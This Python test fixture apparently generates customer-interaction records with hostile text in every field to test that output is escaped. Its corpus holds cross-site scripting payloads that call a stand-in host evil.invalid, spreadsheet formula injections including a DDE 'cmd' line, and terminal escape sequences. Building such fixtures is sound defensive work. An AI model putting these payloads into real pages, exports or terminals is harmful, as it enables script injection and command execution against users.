"""Hostile texts, and interactions with one in every column.

Every script in them does the same, so that a test can detect that it ran: it sets `document.title`,
sends a request to a server at `.invalid`, and opens a dialog.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING

from interactions_sdk import CustomerInteraction, InteractionMetadata

if TYPE_CHECKING:
    from collections.abc import Sequence

SCRIPT = "document.title='hurt';fetch('https://evil.invalid/x');alert(1)"

HTML = (
    f"<script>{SCRIPT}</script>",
    f"</script><script>{SCRIPT}</script>",
    f"</style><script>{SCRIPT}</script>",
    f"</title><script>{SCRIPT}</script>",
    f"</textarea><script>{SCRIPT}</script>",
    f"</summary></details><script>{SCRIPT}</script>",
    f"--><script>{SCRIPT}</script>",
    f"]]><script>{SCRIPT}</script>",
    f"<!--<script>{SCRIPT}</script>",
    f"<ScRiPt>{SCRIPT}</ScRiPt>",
    f"<script\n>{SCRIPT}</script\n>",
    f"<<script>{SCRIPT}//<</script>",
    f'<svg onload="{SCRIPT}">',
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<svg/onload={SCRIPT}>",
    f'</svg><img src=x onerror="{SCRIPT}">',
    f'<img src=https://evil.invalid/i onerror="{SCRIPT}">',
    f'<iframe src="javascript:{SCRIPT}"></iframe>',
    f'<iframe srcdoc="<script>{SCRIPT}</script>">',
    "<object data=https://evil.invalid/o></object>",
    "<embed src=https://evil.invalid/e>",
    "<link rel=stylesheet href=https://evil.invalid/c>",
    "<style>@import 'https://evil.invalid/s';</style>",
    "<base href=https://evil.invalid/>",
    "<meta http-equiv=refresh content=0;url=https://evil.invalid/m>",
    f'<details open ontoggle="{SCRIPT}">',
    f'<input autofocus onfocus="{SCRIPT}">',
    f'<video><source onerror="{SCRIPT}"></video>',
    f"<math><mtext></mtext><script>{SCRIPT}</script></math>",
    f'<form action="javascript:{SCRIPT}"><button autofocus>',
    f'" onmouseover="{SCRIPT}" x="',
    f"' autofocus onfocus='{SCRIPT}' x='",
    '" style="background:url(https://evil.invalid/b)" x="',
    f"javascript:{SCRIPT}",
    f"java\tscript:{SCRIPT}",
    f"data:text/html,<script>{SCRIPT}</script>",
    f"vbscript:{SCRIPT}",
    f"&lt;script&gt;{SCRIPT}&lt;/script&gt;",
    f"&#60;script&#62;{SCRIPT}&#60;/script&#62;",
    f"\\u003cscript\\u003e{SCRIPT}\\u003c/script\\u003e",
    f"{{{{constructor.constructor('{SCRIPT}')()}}}}",
    f"${{{SCRIPT}}}",
    f"datum.x;{SCRIPT}",
    f'<a href="javascript:{SCRIPT}">click</a>',
)
TERMINAL = (
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.invalid\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1bP+q544e\x1b\\",
    "\x9b31mred",
    "\x9d0;title\x9c",
    "\u202edesrever\u202c",
    "\u2066isolated\u2069",
    "\u200einvisible\u200f\u200b",
    "\u2028line\u2029paragraph",
    "\r\nforged line",
    "\b\b\boverwritten\x7f",
    "\x00\x07bell",
    "[bold red]markup[/]",
    "[link=https://evil.invalid]markup[/link]",
    ":skull:",
    "\ufeff\ufffe\uffff",
    "\U000e0041tag",
)
SPREADSHEET = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.invalid","click")',
    '=IMPORTXML("https://evil.invalid","//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001 - spreadsheets treat it like an equals sign
    "'=1+1",
    '"=1+1',
    'a","=1+1',
)
CORPUS = (*HTML, *TERMINAL, *SPREADSHEET)

TEXT_FIELDS = (
    *("customer_id", "interaction_type", "subject", "description", "user_id", "contact_method"),
    *("direction", "outcome", "next_action", "related_entity_type", "related_entity_id"),
    "created_by",
)

AT = datetime(2026, 5, 4, 10, 0, tzinfo=UTC)


def interactions(texts: Sequence[str] = CORPUS) -> list[CustomerInteraction]:
    """Return an interaction for each text, with the text in every possible column."""
    return [_holding(text, number) for number, text in enumerate(texts)]


def _holding(text: str, number: int) -> CustomerInteraction:
    at = AT - timedelta(hours=number)
    metadata = InteractionMetadata(
        attachments=[text, "https://evil.invalid/" + text],
        participants=[text],
        location=text,
        tags=[text],
        custom_fields={text: text},
        email_thread_id=text,
        call_recording_url=text,
        **{text: text},  # pyright: ignore[reportArgumentType] - keys that nobody foresaw are kept
    )
    fields = dict.fromkeys(TEXT_FIELDS, text)
    times = {"created_at": at, "updated_at": at, "next_action_date": at}
    return CustomerInteraction.model_validate(
        {"id": f"i{number}", "metadata": metadata, "permissions": [text], **times, **fields}
    )
